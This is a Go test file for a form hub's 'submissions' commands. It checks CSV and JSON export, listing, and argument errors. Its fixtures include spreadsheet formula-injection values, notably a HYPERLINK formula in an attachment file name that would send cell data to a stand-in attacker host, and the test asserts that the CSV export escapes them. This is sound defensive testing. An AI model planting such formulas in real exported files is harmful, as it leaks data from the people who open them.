package main

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/hubform/hubform/handlers/hub"
	"github.com/hubform/hubform/handlers/hub/sqlite"
	"github.com/hubform/hubform/hubclient"
)

// storeSubmissions writes submissions straight into a hub database.
func storeSubmissions(t *testing.T, data string, subs ...hub.Submission) {
	t.Helper()
	db, err := sqlite.Open(context.Background(), filepath.Join(data, "hub.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	ctx := context.Background()
	for _, s := range subs {
		for _, a := range s.Attachments {
			u := hub.Upload{Key: a.Key, Site: s.Site, Slug: s.Slug, Filename: a.Filename, MIME: a.MIME, Size: a.Size,
				CreatedAt: s.CreatedAt, ExpiresAt: s.CreatedAt.Add(time.Minute)}
			if err := db.CreateUpload(ctx, u); err != nil {
				t.Fatal(err)
			}
			if err := db.MarkUploaded(ctx, a.Key, s.CreatedAt); err != nil {
				t.Fatal(err)
			}
		}
		if err := db.CreateSubmission(ctx, s); err != nil {
			t.Fatal(err)
		}
	}
}

func TestSubmissionsFormats(t *testing.T) {
	data := t.TempDir()
	at := time.Date(2026, 11, 21, 9, 0, 0, 0, time.UTC)
	storeSubmissions(t, data,
		hub.Submission{ID: hub.NewID(at), Site: "acme", Slug: "contact", CreatedAt: at,
			Payload: []byte(`{"name":"Jane","tags":["a","b"],"formula":"=HYPERLINK(\"x\")","n":3}`)},
		hub.Submission{ID: hub.NewID(at.Add(time.Second)), Site: "acme", Slug: "survey", CreatedAt: at.Add(time.Second),
			Payload:     []byte(`{"plan":"pro"}`),
			Attachments: []hubclient.Attachment{{Key: "uploads/acme/survey/k/a.png", Filename: "a.png", Size: 3, MIME: "image/png"}}},
		hub.Submission{ID: hub.NewID(at.Add(2 * time.Second)), Site: "acme", Slug: "survey", CreatedAt: at.Add(2 * time.Second),
			Payload: []byte(`{"plan":"-5","n":-5}`),
			Attachments: []hubclient.Attachment{
				{Key: "uploads/acme/survey/l/x.csv", Filename: `=HYPERLINK("http://evil.example/?"&B2,"Open")`, Size: 3, MIME: "text/csv"},
				{Key: "uploads/acme/survey/m/y.txt", Filename: "@SUM(1)", Size: 3, MIME: "text/plain"}}},
	)

	status, stdout, stderr := hubform(t, "submissions", "export", "--data", data, "--format", "csv")
	if status != 0 {
		t.Fatalf("csv: %d %s", status, stderr)
	}
	rows, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if err != nil || len(rows) != 4 {
		t.Fatalf("csv rows %q, %v", rows, err)
	}
	want := []string{"id", "site", "form", "createdAt", "formula", "n", "name", "plan", "tags", "attachments", "ending", "calculations"}
	if strings.Join(rows[0], ",") != strings.Join(want, ",") {
		t.Errorf("header %q, want %q", rows[0], want)
	}
	if got := rows[1][4:9]; strings.Join(got, "|") != `'=HYPERLINK("x")|3|Jane||a; b` {
		t.Errorf("first row values %q", got)
	}
	if rows[2][9] != "a.png (uploads/acme/survey/k/a.png)" || rows[2][3] != "2026-11-21T09:00:01Z" {
		t.Errorf("second row %q", rows[2])
	}
	// Every cell is escaped, the hub's own columns too: a file name is
	// the visitor's, and a number reads as text.
	if got := rows[3][5] + "|" + rows[3][7] + "|" + rows[3][9]; got != `'-5|'-5|'=HYPERLINK("http://evil.example/?"&B2,"Open") (uploads/acme/survey/l/x.csv); @SUM(1) (uploads/acme/survey/m/y.txt)` {
		t.Errorf("third row %q", rows[3])
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
	}

	status, stdout, _ = hubform(t, "submissions", "export", "--data", data, "--form", "survey")
	var listed []map[string]any
	if status != 0 || json.Unmarshal([]byte(stdout), &listed) != nil || len(listed) != 2 || listed[0]["form"] != "survey" {
		t.Errorf("filtered json: %d %q", status, stdout)
	}

	status, stdout, _ = hubform(t, "submissions", "list", "--data", data)
	if status != 0 || !strings.Contains(stdout, "acme/contact") || !strings.Contains(stdout, "3 submissions") {
		t.Errorf("table: %d %q", status, stdout)
	}
}

func TestSubmissionsErrors(t *testing.T) {
	t.Parallel()
	// A hub's database, whose one workspace is default.
	data := t.TempDir()
	storeSubmissions(t, data)
	for _, tc := range []struct {
		args   []string
		status int
		want   string
	}{
		{[]string{"submissions", "--data", t.TempDir()}, 2, "say list, export or erase"},
		{[]string{"submissions", "show", "--data", t.TempDir()}, 2, `unknown action "show": say list, export or erase`},
		{[]string{"submissions", "list", "--format", "xml", "--data", t.TempDir()}, 2, `--format "xml"`},
		{[]string{"submissions", "list", "--data", filepath.Join(t.TempDir(), "none")}, 1, "hub.db"},
		// A person's data.
		{[]string{"submissions", "erase", "--data", data, "--workspace", "default"}, 2, "--workspace NAME and --email ADDRESS"},
		{[]string{"submissions", "export", "--data", data, "--email", "jo@example.com"}, 2, "--workspace NAME and --email ADDRESS"},
		{[]string{"submissions", "erase", "--data", data, "--workspace", "default", "--email", "jo"}, 2, `--email "jo": want one e-mail address`},
		{[]string{"submissions", "erase", "--data", data, "--workspace", "default", "--email", "Jo <jo@example.com>"}, 2, "want one e-mail address"},
		{[]string{"submissions", "export", "--data", data, "--workspace", "default", "--email", "jo@example.com, an@example.com"}, 2, "want one e-mail address"},
		{[]string{"submissions", "erase", "--data", data, "--workspace", "nobody", "--email", "jo@example.com"}, 2, "no workspace nobody"},
		{[]string{"submissions", "export", "--data", data, "--workspace", "nobody", "--email", "jo@example.com"}, 2, "no workspace nobody"},
		{[]string{"submissions", "erase", "--data", data, "--workspace", "no/where", "--email", "jo@example.com"}, 2, "a workspace's name is"},
		{[]string{"submissions", "list", "--data", data, "--workspace", "default", "--email", "jo@example.com"}, 2, "export or erase"},
		{[]string{"submissions", "erase", "--data", filepath.Join(data, "typo"), "--workspace", "default", "--email", "jo@example.com"}, 1, "no hub database in"},
		{[]string{"submissions", "export", "--data", data, "--workspace", "default", "--email", "jo@example.com", "--site", "acme"}, 2, "from every form"},
		{[]string{"submissions", "export", "--data", data, "--workspace", "default", "--email", "jo@example.com", "--format", "csv"}, 2, "from every form"},
	} {
		status, _, stderr := hubform(t, tc.args...)
		if status != tc.status || !strings.Contains(stderr, tc.want) {
			t.Errorf("%q: status %d, stderr %q; want %d and %q", tc.args, status, stderr, tc.status, tc.want)
		}
	}
	status, stdout, _ := hubform(t, "submissions", "--help")
	for _, want := range []string{"submissions erase --data ./hub-data --workspace agency --email jo@example.com",
		"submissions export --data ./hub-data --workspace agency --email jo@example.com", "--email ADDRESS"} {
		if status != 0 || !strings.Contains(stdout, want) {
			t.Errorf("help: status %d, no %q in:\n%s", status, want, stdout)
		}
	}
}
